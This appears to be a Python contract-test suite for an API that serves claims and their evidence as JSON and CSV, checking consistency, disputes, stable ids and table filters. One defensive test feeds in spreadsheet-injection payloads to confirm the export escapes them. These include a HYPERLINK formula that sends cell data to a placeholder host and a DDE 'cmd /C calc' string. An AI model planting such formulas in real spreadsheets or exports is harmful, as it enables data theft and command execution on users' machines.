"""Claims: every fact with every passage, flat, in JSON and as a table."""

import csv
import io
import json
from pathlib import Path

import httpx

from app.data.dataset import load_dataset
from tests.contract.conftest import Json, Serve
from tests.data.breaking import change

_FORMULA = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001 -- full-width forms count, too


def _resolve(part: object, pointer: str) -> object:
    for name in pointer.split("/")[1:]:
        key = name.replace("~1", "/").replace("~0", "~")
        part = part[int(key)] if isinstance(part, list) else part[key]  # type: ignore[index]
    return part["id"] if isinstance(part, dict) else part


def test_claims_are_what_resources_say(
    collections: dict[str, list[Json]], claims: list[Json]
) -> None:
    """What is shown, and what the evidence says instead."""
    items = {one["id"]: one for items in collections.values() for one in items}
    for claim in claims:
        subject = items[claim["subject"]["id"]]
        if claim["shown"]:
            assert _resolve(subject, claim["pointer"]) == claim["value"], claim["id"]
        same = ("rank", "basis", "source", "locator", "link", "quote", "note")
        assert any(
            all(entry.get(name) == claim.get(name) for name in same)
            and (
                "value" not in entry
                if claim["shown"]
                else entry.get("value") == claim["value"]
            )
            for entry in subject["evidence"]
        ), claim["id"]
    told = {(one["subject"]["id"], one["source"]["id"], one["link"]) for one in claims}
    for item in items.values():
        for entry in item.get("evidence", []):
            assert (item["id"], entry["source"]["id"], entry["link"]) in told


def test_disputed_is_what_sources_differ_on(
    claims: list[Json],
) -> None:
    """All claims on a field for which a source has another value."""
    others = {
        (one["subject"]["id"], one["pointer"]) for one in claims if not one["shown"]
    }
    assert others
    for claim in claims:
        slug, pointer = claim["subject"]["id"], claim["pointer"]
        differs = any(
            slug == one and f"{pointer}/".startswith(f"{at}/") for one, at in others
        )
        assert claim["disputed"] is differs, claim["id"]


def test_claims_are_understood_alone(
    items: dict[str, Json], claims: list[Json]
) -> None:
    """A claim says what its value is, in which language it and its quote are, and who said it."""
    types = {
        int: {"number"},
        bool: {"boolean"},
        str: {"text", "date", "language", "url"},
    }
    for claim in claims:
        subject = items[claim["subject"]["id"]]
        assert claim.get("speaker") == subject.get("speaker"), claim["id"]
        if claim["value_type"] == "reference":
            assert claim["value_name"] == claim_name(items, claim["value"])
        else:
            assert claim["value_type"] in types[type(claim["value"])], claim["id"]
            assert "value_name" not in claim
        tag = claim["pointer"].rpartition("/")[2]
        if claim["pointer"].startswith(("/name/", "/place/", "/title/")):
            assert (claim["value_type"], claim["language"]) == ("text", tag)
        assert ("language" in claim) <= (claim["value_type"] == "text")
        language = (
            items[claim["source"]["id"]]["language"] if "quote" in claim else None
        )
        assert claim.get("quote_language") == language
    assert {claim["value_type"] for claim in claims} >= {
        "text",
        "number",
        "date",
        "reference",
    }
    assert "language" not in next(
        one for one in claims if one["pointer"].endswith("/currency")
    )


def claim_name(items: dict[str, Json], slug: str) -> str:
    """Return the name of a resource as references to it have it."""
    names = items[slug]["name"]
    return str(names.get("en", next(iter(names.values()))))


def test_a_disagreement_has_one_key(claims: list[Json]) -> None:
    """All claims of a disagreement carry its key, which is an id and a pointer."""
    sides: dict[str, set[bool]] = {}
    for claim in claims:
        assert ("dispute" in claim) is claim["disputed"]
        if claim["disputed"]:
            sides.setdefault(claim["dispute"], set()).add(claim["shown"])
            assert f"{claim['subject']['id']}{claim['pointer']}/".startswith(
                f"{claim['dispute']}/"
            )
    assert sides
    assert all(side == {True, False} for side in sides.values()), sides


def test_a_list_of_ids_said_instead(small: Path, serve_small: Serve) -> None:
    """The names of what it refers to come along, and the key is that of the list."""
    (agreement,) = json.loads((small / "agreements.json").read_bytes())
    parties = agreement["parties"]
    other = {**agreement["evidence"][0], "supports": ["/parties"], "value": parties[:1]}
    other |= {"note": "It names the first alone.", "rank": "deprecated"}
    change(small, {"agreements/0/evidence/-": other})
    query = {"subject": agreement["id"], "pointer": "/parties"}
    found = httpx.get(f"{serve_small()}/claims", params=query, timeout=60).json()[
        "items"
    ]
    assert {claim["dispute"] for claim in found} == {f"{agreement['id']}/parties"}
    instead = next(claim for claim in found if not claim["shown"])
    assert (instead["value"], instead["value_type"]) == (parties[:1], "reference")
    assert instead["value_name"] == [
        claim["value_name"] for claim in found if claim["pointer"] == "/parties/0"
    ]


def test_claims_at_a_pointer_or_below(client: httpx.Client, claims: list[Json]) -> None:
    for pointer in ("/name", "/name/en", "/valuation/1", "/nam", "/parties/0"):
        query = {"pointer": pointer, "limit": "1000"}
        answer = client.get("/claims", params=query).raise_for_status().json()
        expected = [
            one for one in claims if f"{one['pointer']}/".startswith(f"{pointer}/")
        ]
        assert answer["items"] == expected[:1000], pointer
        assert answer["total"] == len(expected)
        rows = _rows(client.get("/claims.csv", params={"pointer": pointer}))
        assert [row["id"] for row in rows] == [one["id"] for one in expected]


def test_ids_change_with_what_is_claimed(small: Path) -> None:
    """And with nothing else."""
    before = load_dataset(small).claims.by_id
    (agreement,) = json.loads((small / "agreements.json").read_bytes())
    first, *others = reversed(agreement["evidence"])
    evidence = [{**first, "rank": "preferred"}, *others]
    change(small, {"agreements/0/evidence": evidence, "agreements/0/unknowns": []})
    assert set(load_dataset(small).claims.by_id) == set(before)

    change(small, {"agreements/0/signed": "2020-04-30"})
    after = load_dataset(small).claims.by_id
    assert [before[one].pointer for one in set(before) - set(after)] == ["/signed"]
    assert [after[one].value for one in set(after) - set(before)] == ["2020-04-30"]


def _rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    assert (
        answer.content.count(b"\xef\xbb\xbf")
        == answer.content.startswith(b"\xef\xbb\xbf")
        == 1
    )
    text = answer.raise_for_status().content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_the_table_has_all_of_each_claim(
    client: httpx.Client, claims: list[Json]
) -> None:
    for row, claim in zip(_rows(client.get("/claims.csv")), claims, strict=True):
        for name in ("subject", "source", "speaker"):
            reference = claim.get(name, {"id": "", "name": ""})
            assert row.pop(name) == reference["id"]
            assert row.pop(f"{name}_name") == reference["name"]
        assert row.pop("subject_type") == claim["subject"]["type"]
        for name, cell in row.items():
            value = claim.get(name, "")
            text = "; ".join(value) if isinstance(value, list) else str(value)
            text = text.upper() if isinstance(value, bool) else text
            assert cell == (f"'{text}" if text.startswith(_FORMULA) else text), (
                claim["id"],
                name,
            )
        assert claim.keys() - row.keys() <= {
            "type",
            "subject",
            "source",
            "speaker",
            "href",
        }


def test_the_table_has_the_filters(client: httpx.Client, claims: list[Json]) -> None:
    source = claims[0]["source"]["id"]
    rows = _rows(
        client.get("/claims.csv", params={"source": source, "disputed": "false"})
    )
    chosen = [
        one for one in claims if one["source"]["id"] == source and not one["disputed"]
    ]
    assert [row["id"] for row in rows] == [one["id"] for one in chosen]
    assert _rows(client.get("/claims.csv", params={"source": "nothing-has-this"})) == []


def test_no_cell_is_a_formula(small: Path, serve_small: Serve) -> None:
    """Whatever the data says."""
    formulas = [
        '=HYPERLINK("http://x.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ]
    formulas += ["＝1+1"]  # noqa: RUF001 -- that is the point
    hostile = [*formulas, 'a "quoted", word; =1+1']
    note = json.loads((small / "parties.json").read_bytes())[0]["evidence"][0]
    for number, text in enumerate(hostile):
        party = {
            "id": f"p{number}",
            "name": {"en": text},
            "evidence": [{**note, "note": text}],
        }
        change(small, {"parties/-": party})
    base = serve_small()
    rows = {row["subject"]: row for row in _rows(httpx.get(f"{base}/claims.csv"))}
    for number, text in enumerate(hostile):
        shown = f"'{text}" if text in formulas else text
        row = rows[f"p{number}"]
        assert [row["value"], row["subject_name"], row["note"]] == [shown] * 3
        assert httpx.get(f"{base}/parties/p{number}").json()["name"]["en"] == text
    assert not [
        cell
        for row in rows.values()
        for cell in row.values()
        if cell.startswith(_FORMULA)
    ]
